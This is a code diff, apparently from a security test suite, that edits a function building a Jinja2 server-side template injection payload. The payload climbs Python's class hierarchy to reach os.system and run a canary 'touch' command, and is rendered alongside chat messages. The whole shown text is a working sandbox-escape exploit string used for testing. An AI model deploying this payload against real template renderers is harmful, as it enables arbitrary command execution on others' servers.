@@ -59,11 +59,12 @@ def yaml_apply(canary: Path) -> bytes:
 
 
 def jinja_escape(canary: Path) -> bytes:
-    """Server-side template injection: from a string's class to every function that Python has loaded."""
+    """Server-side template injection: from a string's class to every function that Python has loaded; the first that will do is called."""
     touch = f"touch {canary}"
     return (
-        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__init__.__globals__ is defined and "
-        "c.__init__.__globals__['__builtins__'] is defined %}"
+        "{% set found = namespace(done=false) %}{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
+        "{% if not found.done and c.__init__.__globals__ is defined and c.__init__.__globals__['__builtins__'] is defined %}"
+        "{% set found.done = true %}"
         "{{ c.__init__.__globals__['__builtins__']['__import__']('os').system(" + json.dumps(touch) + ") }}{% endif %}{% endfor %}"
         "{% for m in messages %}{{ m['content'] }}{% endfor %}"
     ).encode()
